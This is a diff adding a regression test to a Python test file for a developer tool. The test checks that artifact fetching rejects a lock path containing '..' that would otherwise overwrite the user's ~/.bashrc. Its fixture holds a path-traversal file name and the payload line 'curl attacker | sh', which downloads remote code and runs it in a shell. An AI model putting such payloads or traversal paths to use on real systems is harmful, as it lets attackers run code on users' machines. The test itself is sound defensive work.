@@ -204,3 +204,19 @@ def test_install_ps1_stops_when_a_native_program_fails() -> None:
     for what in ("-m pip install", "-m venv", "pipx install", "uv tool install", "devenv --version"):
         lines = [ln for ln in rest.splitlines() if what in ln]
         assert lines and all("Invoke-Checked " in ln for ln in lines), what
+
+
+from test_artifacts import _fetch, art, repo  # noqa: E402,F401  (repo: the local HTTP repository fixture)
+
+
+def test_fetch_never_writes_a_file_outside_the_cache(isolated: Path, repo) -> None:
+    """issue 10, High 1: a lock path with '..' and the attacker's sha256 made fetch write ~/.bashrc."""
+    from devenv.lock import Lock
+
+    evil = b"curl attacker | sh\n"
+    a = art("../../../bashrc", evil)  # <home>/cache/artifacts/maven/../../../bashrc is <home>/bashrc
+    repo.files = {a.path: evil}
+    with pytest.raises(DevenvError) as e:
+        _fetch(Lock("p", "x", {}, (a,)), repo)
+    assert "'..'" in e.value.message
+    assert not (isolated / "bashrc").exists()
